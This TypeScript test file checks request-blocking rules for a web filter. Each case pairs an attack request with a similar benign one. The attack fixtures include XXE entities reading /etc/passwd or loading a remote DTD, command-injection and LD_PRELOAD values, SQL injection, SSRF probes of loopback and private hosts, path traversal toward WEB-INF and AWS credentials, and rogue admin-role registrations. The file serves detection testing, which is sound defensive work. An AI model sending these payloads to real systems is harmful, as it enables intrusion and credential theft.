/**
 * Bundled rules of rev 2026-12-05y and z (issue 18, session 18): mechanisms held-out-11's misses showed (and 9000530,
 * held-out-10's WebLogic port probes; rev 2026-12-07c: not on redirect_uri), written
 * for the class of exploit rather than the product. Each fires on its attack, sent the way such an exploit
 * sends it, and stays quiet on the benign text closest to it (an administrator created by a signed-in
 * administrator, a handler named once, a plugin installed by slug, an entity naming a relative file, a
 * parameter whose value is the word "system", a stored procedure named in a number field, a relative
 * settings path, webjars' META-INF).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, form, FORM_HEADERS, json, JSON_HEADERS, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const path = (url: string): RequestSpec => ({ url });
const signedInJson = (body: string): RequestSpec => ({ method: 'POST', url: '/api/users', headers: [...JSON_HEADERS, ['Cookie', 'sid=8b1f0c2e9a7d4e3f']], body });
const bearerJson = (body: string): RequestSpec => ({ method: 'POST', url: '/api/users', headers: [...JSON_HEADERS, ['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.e30.x']], body });
const samlPost = (xml: string, wrap: number): RequestSpec => {
  const b64 = Buffer.from(xml).toString('base64').replace(new RegExp(`(.{${wrap}})`, 'g'), '$1\r\n');
  return { method: 'POST', url: '/saml/acs', headers: FORM_HEADERS, body: `SAMLResponse=${encodeURIComponent(b64)}&RelayState=%2F` };
};
const samlDoc = (dtd: string): string => `<?xml version="1.0" encoding="UTF-8"?>${dtd}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.test/</saml:Issuer></samlp:Response>`;
const octet = (url: string, body: string): RequestSpec => ({ method: 'POST', url, headers: [...BROWSER, ['Content-Type', 'application/octet-stream']], body });

const CASES: RuleCase[] = [
  [9001256, 'block', 'a self-registration JSON setting has_admin_role with no credentials', json('{"username":"ops7","email":"ops7@example.test","realname":"ops7","password":"Passw0rd123","comment":"","has_admin_role":true}'), signedInJson('{"username":"ops7","email":"ops7@example.test","password":"Passw0rd123","has_admin_role":true}')],
  [9001256, 'block', 'a user-creation JSON with roles ["administrator"] and no credentials', json('{"username":"kq2","email":"kq2@example.test","password":"Gx81!aa","roles":["administrator"]}'), bearerJson('{"username":"kq2","email":"kq2@example.test","password":"Gx81!aa","roles":["administrator"]}')],
  [9001256, 'block', 'a registration form choosing role=administrator with its own password', form('user_login=x9&user_email=x9%40example.test&user_pass=Str0ng!pw&role=administrator'), form('user_login=x9&user_email=x9%40example.test&user_pass=Str0ng!pw&role=subscriber')],
  [9001256, 'block', 'an admin flag next to a password, pretty-printed', json('{\n  "login": "svc",\n  "password": "x",\n  "is_superuser": true\n}'), json('{"emails":["ann@example.test"],"role":"admin","message":"Join our team"}')],
  [9001257, 'block', 'an admin page name with the i18n handler suffix', path('/Orion/Admin/Accounts/Accounts.aspx.i18n.ashx?l=en-US&v=43005.1'), path('/Orion/Admin/Accounts/Accounts.aspx?l=en-US')],
  [9001257, 'block', 'web.config with a handler suffix', path('/web.config.i18n.ashx?l=en-US&v=44123.2'), path('/Orion/i18n.ashx?l=en-US&v=44123.2')],
  [9000529, 'block', 'installModule given a remote zip in a GET', q('installModule=https://cdn.example.net/theme.zip&directoryName=violet&type=themes&token=ab12'), q('installModule=violet&type=themes&token=ab12')],
  [9000529, 'block', 'an install_plugin_url in JSON', json('{"install_plugin_url":"http://203.0.113.7/p.zip"}'), json('{"plugin":"akismet","source":"https://wordpress.org/plugins/akismet/"}')],
  [9000606, 'block', 'an external entity in a SAMLResponse wrapped at 76 columns', samlPost(samlDoc('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 76), samlPost(samlDoc(''), 76)],
  [9000606, 'block', 'a parameter entity with an http DTD in an XML body', { method: 'POST', url: '/api/import', headers: [...BROWSER, ['Content-Type', 'application/xml']], body: '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % e SYSTEM "http://203.0.113.9/x.dtd"> %e;]><d/>' }, { method: 'POST', url: '/api/import', headers: [...BROWSER, ['Content-Type', 'application/xml']], body: '<?xml version="1.0"?><!DOCTYPE book [<!ENTITY chapter1 SYSTEM "chapter1.xml">]><book>&chapter1;</book>' }],
  [9001354, 'block', 'strip_slashes given system before a command parameter', q('strip_slashes=system&host=id'), q('theme=system&host=example.test')],
  [9001354, 'block', 'a parameter whose value is passthru', q('x=passthru&row=hostname'), q('x=pass&row=hostname')],
  [9001277, 'block', 'LD_PRELOAD as a CGI query parameter', octet('/cgi-bin/index?LD_PRELOAD=/proc/self/fd/0', '\x7fELF'), octet('/cgi-bin/index?LD_MODE=fast', '\x7fELF')],
  [9001277, 'block', 'LD_LIBRARY_PATH as a form field', form('LD_LIBRARY_PATH=%2Fdev%2Fstdin&x=1'), form('OLD_LIBRARY_PATH=%2Fusr%2Flib&x=1')],
  [9000189, 'block', 'a number, a semicolon, and CREATE TABLE … AS SELECT in a form', form('action=import&signatureid=1%3BCREATE+TABLE+pandb.t1+AS+SELECT+api_key+FROM+pandbRBAC.users%3B%23'), form('action=import&signatureid=1&note=create+table+of+contents')],
  [9000189, 'block', 'a number then ;DROP TABLE in a query', q('id=42;DROP%20TABLE%20users'), q('ids=42;43;44&sort=drop')],
  [9000414, 'block', 'an absolute path to an app settings file in a file parameter', q('file=/srv/app/settings.py'), q('file=docs/settings.py')],
  [9000414, 'block', 'an absolute path to AWS credentials in JSON', json('{"doc":"/home/app/.aws/credentials"}'), json('{"doc":"/home/app/reports/2024-05.pdf"}')],
  [9000415, 'block', 'a dot segment and an empty segment before WEB-INF', path('/.//WEB-INF/web.xml'), path('/webjars/jquery/3.7.1/META-INF/resources/jquery.js')],
  [9000530, 'block', 'an SSRF probe of a private address and port in a UDDI operator parameter', q('rdoSearch=name&txtSearchname=abc&btnSubmit=Search&operator=http%3A%2F%2F10.3.5.37%3A9200'), q('redirect_uri=http%3A%2F%2F192.168.1.201%3A3000%2Fauth%2Fcallback')],
  [9000530, 'block', 'a loopback origin with a port and a trailing slash, gopher', q('target=gopher://127.0.0.1:6379/&x=1'), q('url=http://localhost:8080/&x=1')],
  // Rev 2026-12-07c: redirect_uri, and only that name, is a native app's RFC 8252 loopback sign-in, never fetched.
  [9000530, 'block', 'a loopback origin and port in a name one letter from redirect_uri', q('redirect_url=http%3A%2F%2F127.0.0.1%3A53682%2F&response_type=code'), q('client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&response_type=code')],
  [9000530, 'block', 'a loopback origin and port in a longer name ending in redirect_uri', q('x_redirect_uri=http://127.0.0.1:7001/'), q('client_id=kubelogin&redirect_uri=http://127.0.0.1:8000/&response_type=code&scope=openid')],
  // rev 3 (fp26): an admin settings page saved by GET sets its outbound proxy to a private origin; names one letter off proxy still block.
  [9000530, 'block', 'a private origin and port in a name one letter from proxy', q('prox_url=http%3A%2F%2F10.0.0.1%3A3128'), q('page=network&proxy_url=http%3A%2F%2F10.0.0.1%3A3128&save=1')],
  [9000530, 'block', 'a private origin and port at a proxy port in an upstream parameter', q('upstream=http://10.20.0.5:3128/&x=1'), q('PROXY_URL=http://192.168.1.10:8080&proxy=http://172.16.0.9:8888')],
  [9000415, 'block', 'an encoded slash after a dot segment before META-INF under an app path', path('/app/.%2f/META-INF/MANIFEST.MF'), path('/app/docs/META-INF-guide.html')],
];

describe("bundled rules for held-out-11's exploit mechanisms (rev 2026-12-05y, 2026-12-05z)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
